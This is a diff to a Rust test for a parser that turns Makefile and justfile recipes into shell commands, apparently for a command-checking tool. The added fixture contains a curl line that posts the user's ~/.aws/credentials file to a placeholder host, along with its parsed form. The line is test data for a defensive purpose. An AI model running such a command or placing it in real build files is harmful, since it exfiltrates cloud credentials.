@@ -53,6 +53,17 @@ fn makefile_recipes_are_read_with_continuations() {
             "id"
         ])
     );
+    // make's variables are the values the shell sees; its functions stay substitutions.
+    assert_eq!(
+        pieces(
+            "/p/Makefile",
+            "b:\n\tcurl -d @$(HOME)/.aws/credentials x\n\t$(CC) -o ${OUT} $$(pwd)/m.c $(wildcard *.c)\n"
+        ),
+        shell(&[
+            "curl -d @${HOME}/.aws/credentials x",
+            "${CC} -o ${OUT} $(pwd)/m.c $(wildcard *.c)"
+        ])
+    );
     assert_eq!(
         pieces("/p/justfile", "build:\n    @cargo build\n"),
         shell(&["cargo build"])
